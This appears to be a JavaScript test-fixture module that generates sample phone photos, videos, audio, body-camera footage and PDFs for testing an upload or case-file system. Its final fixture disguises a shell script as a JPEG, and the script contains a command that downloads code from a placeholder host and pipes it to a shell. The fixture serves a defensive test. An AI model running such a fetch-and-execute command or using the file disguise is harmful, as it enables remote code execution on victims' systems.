// Files as phones and strangers send them.
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** A small picture of a phone: as many as a thin line carries. */
export const small = (nth, name) => photo(nth, name, readFileSync(media("flower_gps_ori6.jpg")));

const media = (name) => new URL(`../../crates/office/tests/media/${name}`, import.meta.url);

/** A phone's JPEG whose properties tell when and where it was taken, or `of` something else. `nth` makes each one different. */
export function photo(nth = 0, name = "现场照片.jpg", of = null) {
  const jpeg = of ?? readFileSync(media("china_crop_gps.jpg"));
  // Bytes behind the end of the picture are kept in the original and shown by nobody.
  return { name, mimeType: "image/jpeg", buffer: Buffer.concat([jpeg, Buffer.from(`#${nth}`)]) };
}

/** A phone's short video: a film's boxes around bytes that nothing can squeeze. */
export function video(megabytes, name = "现场录像.mp4") {
  const box = (kind, content) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(8 + content.length);
    head.write(kind, 4, "latin1");
    return Buffer.concat([head, content]);
  };
  const head = box("ftyp", Buffer.from("isom\0\0\0\0isommp42", "latin1"));
  return { name, mimeType: "video/mp4", buffer: Buffer.concat([head, box("moov", Buffer.alloc(0)), box("mdat", randomBytes(Math.round(megabytes * 1024 * 1024)))]) };
}

/** So many seconds of a tone, as the simplest recorders write them. */
export function tone(seconds, name = "现场录音.wav") {
  const samples = Buffer.from(Uint8Array.from({ length: 8000 * seconds }, (_, i) => 128 + Math.round(60 * Math.sin((i * 2 * Math.PI * 440) / 8000))));
  const head = Buffer.alloc(44);
  head.write("RIFF", 0, "latin1");
  head.writeUInt32LE(36 + samples.length, 4);
  head.write("WAVEfmt ", 8, "latin1");
  // PCM, one channel, 8000 samples a second, one byte each.
  for (const [at, n] of [[16, 16], [24, 8000], [28, 8000], [40, samples.length]]) head.writeUInt32LE(n, at);
  for (const [at, n] of [[20, 1], [22, 1], [32, 1], [34, 8]]) head.writeUInt16LE(n, at);
  head.write("data", 36, "latin1");
  return { name, mimeType: "audio/wav", buffer: Buffer.concat([head, samples]) };
}

/** A body camera's film that plays, 500 seconds long by its own clock, begun at this moment of it (`2026-06-01T09:00:00`). `nth` makes each one different,
 * `megabytes` are bytes behind it that nothing can squeeze. */
export function film(began, nth = 0, name = "执法记录仪.mp4", megabytes = 0) {
  const mp4 = readFileSync(new URL("../../crates/office/src/demo/film.mp4", import.meta.url));
  // The format counts seconds from 1904 in Greenwich; the clocks tick so that ten frames last as long as wanted.
  const created = Date.parse(`${began}+08:00`) / 1000 + 2_082_844_800;
  for (const [box, ticks] of [["mvhd", 10_000], ["tkhd", 0], ["mdhd", 6_000]]) {
    const at = mp4.indexOf(box, 0, "latin1") + 8;
    mp4.writeUInt32BE(created, at);
    mp4.writeUInt32BE(created, at + 4);
    if (ticks) mp4.writeUInt32BE(ticks / 500, at + 8);
  }
  const mark = Buffer.concat([Buffer.from(`#${nth}`), randomBytes(megabytes * 1024 * 1024)]);
  const free = Buffer.alloc(8);
  free.writeUInt32BE(8 + mark.length);
  free.write("free", 4, "latin1");
  return { name, mimeType: "video/mp4", buffer: Buffer.concat([mp4, free, mark]) };
}

/** A PDF of some pages with a line on each. */
export function pdf(lines, name = "材料.pdf") {
  const objects = [
    "<</Type/Catalog/Pages 2 0 R>>",
    `<</Type/Pages/Kids[${lines.map((_, n) => `${4 + 2 * n} 0 R`).join(" ")}]/Count ${lines.length}/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>>>`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ];
  lines.forEach((line, n) => {
    const draw = `BT /F 28 Tf 60 740 Td (${line}) Tj /F 14 Tf 0 -60 Td (page ${n + 1} of ${lines.length}) Tj ET`;
    objects.push(`<</Type/Page/Parent 2 0 R/Contents ${5 + 2 * n} 0 R>>`, `<</Length ${draw.length}>>stream\n${draw}\nendstream`);
  });
  let out = "%PDF-1.4\n";
  const places = objects.map((object, n) => {
    const at = out.length;
    out += `${n + 1} 0 obj${object}endobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${out.length}\n%%EOF\n`;
  return { name, mimeType: "application/pdf", buffer: Buffer.from(out, "latin1") };
}

/** So many seconds of a test picture with a tone, as a phone films. */
export function filmed(seconds, name = "走访录像.mp4") {
  const folder = mkdtempSync(join(tmpdir(), "filmed-"));
  const to = join(folder, "film.mp4");
  const from = (what) => ["-f", "lavfi", "-i", `${what}:duration=${seconds}`];
  execFileSync("ffmpeg", ["-nostdin", "-v", "error", ...from("testsrc=size=640x360:rate=25"), ...from("sine=frequency=440"), "-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest", to]);
  const buffer = readFileSync(to);
  rmSync(folder, { recursive: true });
  return { name, mimeType: "video/mp4", buffer };
}

/** A script that calls itself a picture. */
export function disguised() {
  return { name: "照片.jpg", mimeType: "image/jpeg", buffer: Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n") };
}
